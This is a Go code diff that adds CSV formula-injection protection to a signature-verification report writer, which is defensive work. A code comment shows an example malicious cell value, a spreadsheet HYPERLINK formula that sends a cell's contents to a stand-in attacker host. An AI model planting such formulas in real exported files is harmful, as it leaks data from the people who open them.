@@ -207,10 +207,13 @@ func (e *Entry) explanation() (verify.SubIndication, string) {
 // The header is in lang; the codes (verdict, subindication, pairing,
 // revocation status and source) and reasons are never translated. ogrn is
 // the OGRN, or the OGRNIP when there is no OGRN; signing_time is RFC 3339
-// UTC. Values are written as they are (a spreadsheet opening the file may
-// treat a value starting with "=" as a formula).
+// UTC. Cells are quoted as RFC 4180 says, and a cell starting with "=",
+// "+", "-", "@", a tab or a carriage return, which a spreadsheet would
+// read as a formula, is prefixed with "'" (and so is one starting with
+// "'": removing one leading "'" from every cell that has one gives the
+// values back).
 func (r *Report) WriteCSV(w io.Writer, lang Lang) error {
-	cw := csv.NewWriter(w)
+	cw := &csvWriter{csv.NewWriter(w)}
 	if err := cw.Write(lang.labels().CSVHeader); err != nil {
 		return err
 	}
@@ -254,6 +257,32 @@ func (r *Report) WriteCSV(w io.Writer, lang Lang) error {
 	}
 	cw.Flush()
 	return cw.Error()
+}
+
+// csvWriter writes rows through csvCell.
+type csvWriter struct{ *csv.Writer }
+
+func (w *csvWriter) Write(row []string) error {
+	cells := make([]string, len(row))
+	for i, c := range row {
+		cells[i] = csvCell(c)
+	}
+	return w.Writer.Write(cells)
+}
+
+// csvCell is a cell as WriteCSV writes it. A cell starting with "=", "+",
+// "-", "@", a tab or a carriage return is read as a formula by Excel,
+// LibreOffice and Google Sheets, so a certificate's subject or a file name
+// such as `=HYPERLINK("http://evil.example/?"&A1, "open")` would run
+// there: such a cell is prefixed with "'", which spreadsheets take as
+// "this is text" (OWASP, CSV Injection). A cell starting with "'" gets
+// one too, so that a program reading the file back removes one leading
+// "'" from any cell that has one and always gets the value.
+func csvCell(s string) string {
+	if s != "" && strings.IndexByte("=+-@\t\r'", s[0]) >= 0 {
+		return "'" + s
+	}
+	return s
 }
 
 // WriteJSON writes the report as indented JSON, the same text as
